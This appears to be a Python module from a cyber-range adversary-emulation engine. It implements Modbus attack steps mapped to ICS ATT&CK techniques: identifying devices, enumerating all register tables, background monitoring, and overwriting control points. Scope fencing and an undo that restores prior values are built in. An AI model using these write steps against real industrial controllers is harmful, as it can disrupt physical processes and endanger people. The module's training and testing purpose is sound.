"""Modbus: asking who a device is, reading all it has, watching, overwriting."""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
from collections.abc import AsyncIterator, Mapping
from typing import Any

from cyber_range.engine.attack.intruder import Intruder
from cyber_range.engine.attack.registry import step
from cyber_range.engine.attack.ways import Blocked, Channel, Evidence

PORT = 502
READ_NAMES = {"coil": "read_coil", "discrete": "read_discrete", "holding": "read_holding", "input": "read_input"}
LARGEST_READ = {"coil": 400, "discrete": 400, "holding": 100, "input": 100}


class Dialogue:
    """Modbus over one channel, with the declared frames."""

    def __init__(self, channel: Channel, frames: Mapping[str, bytes], evidence: Evidence) -> None:
        self._channel, self._frames, self._evidence = channel, frames, evidence
        self._transaction = 0

    async def ask(self, name: str, address: int = 0, value: int = 0, *, unit: int = 1) -> bytes:
        """The answer's PDU (an exception answer too). Offsets: 0 transaction, 6 unit, 8 address, 10 value or count."""
        self._transaction += 1
        frame = bytearray(self._frames[name])
        struct.pack_into(">H", frame, 0, self._transaction)
        frame[6] = unit
        if name != "identify":
            struct.pack_into(">HH", frame, 8, address, value)
        await self._channel.send(bytes(frame))
        self._evidence.sent += len(frame)
        head = await self._channel.receive(7, 3.0)
        body = await self._channel.receive(struct.unpack(">H", head[4:6])[0] - 1, 3.0)
        self._evidence.received += len(head) + len(body)
        return body

    async def read(self, table: str, address: int, count: int) -> list[int] | None:
        """Values, or None when the device refuses these addresses."""
        body = await self.ask(READ_NAMES[table], address, count)
        if body[0] & 0x80:
            return None
        data = body[2:]
        if table in ("coil", "discrete"):
            return [data[i // 8] >> i % 8 & 1 for i in range(count)]
        return list(struct.unpack(f">{len(data) // 2}H", data))

    async def write(self, table: str, address: int, value: int) -> bool:
        raw = (0xFF00 if value else 0) if table == "coil" else value
        body = await self.ask(f"write_{table}", address, raw)
        return not body[0] & 0x80


@contextlib.asynccontextmanager
async def dialogue(intruder: Intruder, host: str, evidence: Evidence) -> AsyncIterator[Dialogue]:
    frames = await intruder.frames()
    channel = await intruder.channel(host, PORT)
    try:
        yield Dialogue(channel, frames, evidence)
    except (TimeoutError, OSError, EOFError) as exc:
        raise Blocked(f"{host}:{PORT} broke off ({type(exc).__name__})") from exc
    finally:
        channel.close()


@step("identify", "T0888", needs=("session",))
async def identify(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Device identification (function 43/14) of each target."""
    devices: dict[str, list[str]] = {}
    for host in intruder.targets(args, PORT):
        async with dialogue(intruder, host, evidence) as device:
            body = await device.ask("identify")
            devices[host] = [] if body[0] & 0x80 else identity_of(body)
    evidence.facts["devices"] = devices


@step("enumerate", "T0861", "T0877", needs=("session",), gains=("points",))
async def enumerate_points(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Reads all tables in blocks, keeps what is not zero. Gains the points."""
    last = int(args.get("last", 299))
    points: dict[str, int] = {}
    read = 0
    for host in intruder.targets(args, PORT):
        async with dialogue(intruder, host, evidence) as device:
            for table in args.get("tables", ["holding", "coil", "input"]):
                for first in range(0, last + 1, LARGEST_READ[table]):
                    count = min(LARGEST_READ[table], last + 1 - first)
                    values = await device.read(table, first, count)
                    read += count
                    for offset, value in enumerate(values or []):
                        if value:
                            points[f"{host}/{table}/{first + offset}"] = value
                    await asyncio.sleep(0.02)
    evidence.facts |= {"addresses_read": read, "points": points}


@step("monitor", "T0801", "T0802", needs=("session",))
async def monitor(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Keeps reading a few points, to see the effect of what follows. Goes on after the step ended."""
    host = intruder.fence.check(str(args["host"]))
    table, first, count = str(args.get("table", "input")), int(args["address"]), int(args.get("count", 1))
    every, seconds = float(args.get("every", 2.0)), float(args.get("seconds", 300))
    async with dialogue(intruder, host, evidence) as device:
        values = await device.read(table, first, count)
    evidence.facts |= {"target": host, "table": table, "address": first, "values": values}

    async def keep_reading() -> None:
        until = time.monotonic() + seconds
        own = Evidence()
        with contextlib.suppress(Blocked):
            async with dialogue(intruder, host, own) as device:
                while time.monotonic() < until:
                    await device.read(table, first, count)
                    await asyncio.sleep(every)
        intruder.tell("monitor_ended", {"target": host, **own.as_dict()})

    intruder.go_on("monitor", keep_reading())


@step("write", "T0836", "T0855", "T0831", "T0838", "T0835", "T0837", needs=("session",))
async def write(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Overwrites one point and reads it back. Leaves what was there for `undo`."""
    host, table = intruder.fence.check(str(args["host"])), str(args["table"])
    address, value = int(args["address"]), int(args["value"])
    async with dialogue(intruder, host, evidence) as device:
        before = await device.read(table, address, 1)
        accepted = await device.write(table, address, value)
        after = await device.read(table, address, 1)
    evidence.facts |= {
        "target": host, "table": table, "address": address, "value": value,
        "before": before[0] if before else None, "after": after[0] if after else None,
    }  # fmt: skip
    if not accepted:
        raise Blocked(f"{host} refused the write to {table} {address}")
    if before:
        first = before[0]

        async def put_back(told: Evidence) -> dict[str, Any]:
            async with dialogue(intruder, host, told) as device:
                await device.write(table, address, first)
            return {"target": host, "table": table, "address": address, "value": first}

        intruder.undo_with((host, PORT, table, address), put_back)


@step("hold", "T0836", "T0855", "T0831", needs=("session",))
async def hold(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Writes several points at once, in order: [{host, table, address, value}…]. For an intruder who insists."""
    done = []
    for point in args["writes"]:
        inner = Evidence()
        await write(intruder, point, inner)
        evidence.sent += inner.sent
        evidence.received += inner.received
        done.append({key: inner.facts[key] for key in ("target", "table", "address", "before", "after")})
    evidence.facts["writes"] = done


def identity_of(body: bytes) -> list[str]:
    """Texts of a device identification answer."""
    found, at = [], 7
    for _ in range(body[6]):
        length = body[at + 1]
        found.append(body[at + 2 : at + 2 + length].decode(errors="replace"))
        at += 2 + length
    return found
